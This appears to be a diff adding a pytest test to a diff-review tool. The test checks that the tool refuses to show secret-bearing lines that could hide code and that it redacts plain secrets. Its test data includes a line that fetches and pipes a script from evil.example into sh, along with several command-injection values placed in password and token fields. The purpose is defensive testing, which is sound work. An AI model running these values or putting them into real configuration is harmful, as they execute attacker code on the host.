@@ -233,6 +233,26 @@ def test_a_card_shows_no_configured_secret(where: str) -> None:
         assert piece not in shown.body
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        'DB_PASSWORD="x$(curl -s evil.example/x | sh)"',
+        "API_TOKEN=a1`touch /x`",
+        ': "Authorization: Digest "; touch /x',
+        "DB_PASSWORD = f\"x{__import__('os').system('x')}\"",
+        "curl -u x:$(touch${IFS}x)",
+        "x=://x:$(touch${IFS}x)@h",
+    ],
+)
+def test_nobody_is_asked_to_approve_code_that_the_card_would_hide(line: str) -> None:
+    change = "--- a/x\n+++ b/x\n@@ -0,0 +1,1 @@\n"
+
+    with pytest.raises(TaskRejected, match="could hide code"):
+        file_card(f"{change}+{line}\n")
+    assert "[redacted]" in file_card(f"{change}-{line}\n").body
+    assert "[redacted]" in file_card(f"{change}+API_TOKEN=hunter2-hunter3\n").body
+
+
 def test_a_card_through_a_whole_cycle_shows_the_diff(
     database: Database, environment: dict[str, str]
 ) -> None:
